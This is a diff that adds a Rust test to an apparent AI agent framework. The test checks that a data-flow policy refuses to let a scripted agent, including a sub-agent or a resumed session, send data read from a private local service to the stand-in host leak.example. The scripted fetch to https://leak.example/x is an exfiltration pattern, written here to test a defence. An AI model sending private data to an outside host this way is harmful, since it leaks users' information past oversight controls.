@@ -126,6 +126,52 @@ fn call_completing_data_flow_is_refused_without_terminal() {
     assert_ne!(run(&["--flow", "off"])[1], json!("denied"));
 }
 
+/// What a service of a private network says is private, also if nothing else can be reached when it is read.
+#[test]
+fn data_of_a_service_is_not_sent_by_an_agent_or_after_resuming() {
+    let user = User::new();
+    let prebuilt = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("prebuilt/fetch.wasm");
+    user.configure(&format!(
+        "[tools.other]\ncomponent = {prebuilt:?}\ngrants = [\"http=https://leak.example\"]\n\
+         [agents.helper]\ndescription = \"d\"\ninstructions = \"i\"\ntools = [\"other\"]\n\
+         provider = {{ name = \"scripted\", model = \"inner.json\" }}\n"
+    ));
+    let fetch = |url: &str| json!({ "calls": [{ "name": "fetch", "arguments": { "url": url } }] });
+    let private = fetch("http://127.0.0.1:9/private");
+    user.file(
+        "inner.json",
+        json!({ "steps": [{ "text": "Done." }] }).to_string(),
+    );
+    let script = |steps: &[Value]| json!({ "steps": steps }).to_string();
+    let helper = json!({ "calls": [{ "name": "helper", "arguments": { "task": "t" } }] });
+    user.file(
+        "agent.json",
+        script(&[private.clone(), helper, json!({ "text": "Done." })]),
+    );
+    user.file("read.json", script(&[private, json!({ "text": "Done." })]));
+    user.file(
+        "send.json",
+        script(&[fetch("https://leak.example/x"), json!({ "text": "Done." })]),
+    );
+    let closed = "fetch:http=http://127.0.0.1:9";
+    let denied = |command: &[&str], script: &str, grant: &str| {
+        let flags = ["--provider", "scripted", "--model", script, "--tool", "fetch"];
+        let arguments = [command, &flags, &["--grant", grant, "--flow", "refuse", "--json"]].concat();
+        let events = user.run(&arguments).ended(0).json_lines();
+        let finished = events.iter().filter(|event| event["type"] == "call_finished");
+        finished
+            .map(|event| event["error"]["kind"] == "denied")
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(denied(&["run", "x"], "agent.json", closed), [false, true]);
+    assert_eq!(denied(&["run", "x"], "read.json", closed), [false]);
+    let resume = ["session", "resume", "last", "go on"];
+    assert_eq!(
+        denied(&resume, "send.json", "fetch:http=https://leak.example"),
+        [true]
+    );
+}
+
 mod at_a_terminal {
     use super::*;
     use crate::support::pty::Terminal;
